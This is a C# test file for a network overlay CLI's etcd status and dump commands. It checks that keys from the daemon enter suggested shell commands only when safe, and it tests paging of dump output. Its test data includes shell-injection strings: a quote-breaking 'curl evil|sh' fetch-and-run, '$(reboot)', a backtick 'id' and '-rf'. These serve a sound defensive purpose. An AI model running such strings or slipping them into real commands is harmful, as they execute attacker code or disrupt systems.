using Overlay.Cli.Tests.Kit;

namespace Overlay.Cli.Tests.Verbs;

/// <summary><c>etcd status</c> and <c>etcd dump</c>.</summary>
public sealed class EtcdVerbTests
{
    [Theory]
    [InlineData("/overlay/v1/vnis/100/macs/02:00:00:00:00:01", "Next: etcdctl get /overlay/v1/vnis/100/macs/02:00:00:00:00:01")]
    [InlineData("/overlay/v1/x'; curl evil|sh; '", null)]
    [InlineData("/overlay/v1/$(reboot)", null)]
    [InlineData("/overlay/v1/a b", null)]
    [InlineData("/overlay/v1/`id`", null)]
    [InlineData("-rf", null)]
    public async Task A_strangers_key_becomes_part_of_a_command_only_if_no_shell_minds_it(string key, string? next)
    {
        await using FakeDaemon daemon = await FakeDaemon.StartAsync(("GET /v1/etcd/status", 200, Status(key)));
        Ctl ctl = await Ctl.RunAsync("etcd", "status", "--socket", daemon.Socket);
        string line = ctl.Out.Split('\n').Single(static l => l.Contains("key_outside_schema", StringComparison.Ordinal));
        if (next is not null)
        {
            Assert.EndsWith(next, line, StringComparison.Ordinal);
            return;
        }

        string command = line[(line.LastIndexOf("Next: ", StringComparison.Ordinal) + 6)..];
        Assert.Contains("etcd dump", command, StringComparison.Ordinal);
        Assert.DoesNotContain(key, command, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Dump_says_how_to_go_on_and_goes_on()
    {
        const string Key = """{"key":"/overlay/v1/vteps/KEY","value":"VALUE","kind":"vtep","vtep":"x","revision":7}""";
        string value = new('v', 5000);
        string first = $$"""{"keys":[{{Key.Replace("KEY", "a").Replace("VALUE", value)}}],"revision":9,"truncated":true,"next":"9.L292ZXI_-w"}""";
        string last = $$"""{"keys":[{{Key.Replace("KEY", "b")}}],"revision":9,"truncated":false,"next":null}""";
        await using FakeDaemon daemon = await FakeDaemon.StartAsync(
            ("GET /v1/etcd/dump?vni=100&limit=1", 200, first),
            ("GET /v1/etcd/dump?vni=100&limit=1&next=9.L292ZXI_-w", 200, last));
        Ctl ctl = await Ctl.RunAsync("etcd", "dump", "--vni", "100", "--limit", "1", "--socket", daemon.Socket);
        Assert.Equal(ExitCode.Ok, ctl.Code);
        Assert.Contains("etcd dump --vni 100 --limit 1 --next 9.L292ZXI_-w", ctl.Out, StringComparison.Ordinal);
        Assert.DoesNotContain(value, ctl.Out, StringComparison.Ordinal);
        ctl = await Ctl.RunAsync("etcd", "dump", "--vni", "100", "--limit", "1", "-o", "json", "--socket", daemon.Socket);
        Assert.Contains(value, ctl.Out, StringComparison.Ordinal);
        ctl = await Ctl.RunAsync("etcd", "dump", "--vni", "100", "--limit", "1", "--next", "9.L292ZXI_-w", "--socket", daemon.Socket);
        Assert.Contains("/overlay/v1/vteps/b", ctl.Out, StringComparison.Ordinal);
        Assert.DoesNotContain("Next:", ctl.Out, StringComparison.Ordinal);
    }

    private static string Status(string key) => $$"""
        {"state":"in-touch","prefix":"/overlay/v1/","node":"a","revision":7,"lease_seconds":15,"vnis":1,"keys_written":2,"keys_waiting":0,"answers":0,"misses_waiting":0,"listed_keys":3,"list_seconds":0.1,
         "endpoints":[],"counters":{},"faults":[{"name":"key_outside_schema","count":1,"key":"{{key}}","revision":5,"detail":"","age_seconds":3}]}
        """;
}
